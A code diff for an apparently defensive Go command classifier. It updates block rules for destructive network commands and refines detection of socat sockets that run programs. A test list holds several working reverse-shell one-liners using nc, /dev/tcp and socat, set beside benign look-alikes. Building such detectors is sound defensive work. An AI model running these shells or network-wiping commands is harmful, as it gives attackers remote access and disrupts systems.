@@ -21,11 +21,11 @@ var netDeeds = []deed{
 	{names: "ipfw", spare: "-n", verbs: "... flush|... delete|... add|zero|... disable|set"},
 	{names: "ipset", verbs: "flush|destroy|del|swap|-F|-X|-D", flags: "FXDW"},
 	{names: "conntrack", flags: "FDI", opts: "--flush --delete"},
-	{names: "ip", short: "fnlcbs", brief: true, verbs: "link set ... down|link delete|address flush|address delete|route del|route flush|route replace|route change|route add default|" +
-		"rule del|rule flush|netns delete|link set ... name|link set ... nomaster|tuntap del|xfrm policy flush|xfrm state flush"},
-	{names: "ifconfig", verbs: "* down|* delete|* ... -alias|* destroy", opts: "-alias"},
+	{names: "ip", short: "fnbl", brief: true, verbs: "link set ... down|link delete|address flush|address delete|route delete|route flush|route replace|route change|route add default|" +
+		"rule delete|rule flush|netns delete|link set ... name|link set ... nomaster|tuntap delete|xfrm policy flush|xfrm state flush"},
+	{names: "ifconfig", verbs: "* down|* delete|* 0.0.0.0|* ... -alias|* destroy", opts: "-alias"},
 	{names: "ifdown", safe: "n", spare: "--no-act", flags: "a", plain: true},
-	{names: "nmcli", short: "fmtego", brief: true, verbs: "connection down|connection delete|connection modify|device disconnect|device delete|networking off|radio wifi off|radio all off|radio wwan off|device set"},
+	{names: "nmcli", short: "fmtego", brief: true, verbs: "connection down|connection delete|connection modify|device disconnect|device delete|networking off|radio wifi off|radio all off|radio wwan off"},
 	{names: "route", verbs: "del|flush|add default|delete|change|add -net|add 0.0.0.0", fold: true},
 	{names: "route", flags: "f"},
 	{names: "netsh", fold: true, verbs: "advfirewall set|advfirewall reset|advfirewall firewall delete|advfirewall firewall add|interface set|interface ip delete|interface ip set|winsock reset|" +
@@ -82,7 +82,7 @@ func netShell() Row {
 			"nc h 1 | bash", "busybox nc h 1 -e sh", "0<&196;exec 196<>/dev/tcp/h/1; sh <&196 >&196 2>&196", "ttyd bash", "nohup bash -i >& /dev/tcp/h/1 0>&1", "exec bash -i &>/dev/tcp/h/1 <&1", "{ sh -i; } >& /dev/tcp/h/1 0>&1", "ncat h 1 -c bash", "socat TCP-LISTEN:1,fork SYSTEM:sh", "bash -c 'sh -i >& /dev/udp/h/1 0>&1'"},
 		LookAlikes: []string{"nc -zv h 80", "nc -l 4444 > f", "echo x | nc h 80", "exec 3<>/dev/tcp/h/80; echo GET >&3; cat <&3", "socat TCP-LISTEN:80,fork TCP:h:80", "echo x > /dev/tcp/h/80", "openssl s_client -connect h:443 < /dev/null",
 			"telnet h 80", "nc -vlp 44", "bash script.sh | nc h 9", "cat < /dev/tcp/h/13", "ncat --ssl h 443", "echo 'bash -i >& /dev/tcp/h/1 0>&1'", "timeout 1 bash -c 'echo > /dev/tcp/h/80'", "nc -U /tmp/s", "printf x | nc -w1 h 1",
-			"nc -C h 25", "bash -c 'cat < /dev/tcp/h/13'", "nc -h"},
+			"nc -C h 25", "bash -c 'cat < /dev/tcp/h/13'", "nc -h", "socat - EXEC:./server"},
 	}
 }
 
@@ -169,11 +169,16 @@ func (a *Act) runsWhatItReads() bool {
 func (a *Act) socketRuns() bool {
 	switch a.Program {
 	case "socat":
+		runs, connects := false, false
 		for _, w := range a.Words[1:] {
 			kind, _, _ := strings.Cut(strings.ToUpper(w.Text), ":")
-			if kind == "EXEC" || kind == "SYSTEM" || kind == "SHELL" {
-				return true
+			runs = runs || kind == "EXEC" || kind == "SYSTEM" || kind == "SHELL"
+			for _, k := range [...]string{"TCP", "UDP", "OPENSSL", "SSL", "SOCKS", "PROXY", "VSOCK", "SCTP", "DTLS"} {
+				connects = connects || strings.HasPrefix(kind, k)
 			}
+		}
+		if runs && connects {
+			return true
 		}
 	case "nc", "ncat", "netcat":
 		args := a.Args(analysis.Grammar{Short: "eciIGgopqsTVwWXxPOM", Long: []string{"exec", "sh-exec", "lua-exec", "source", "wait", "proxy", "allow", "deny"}})
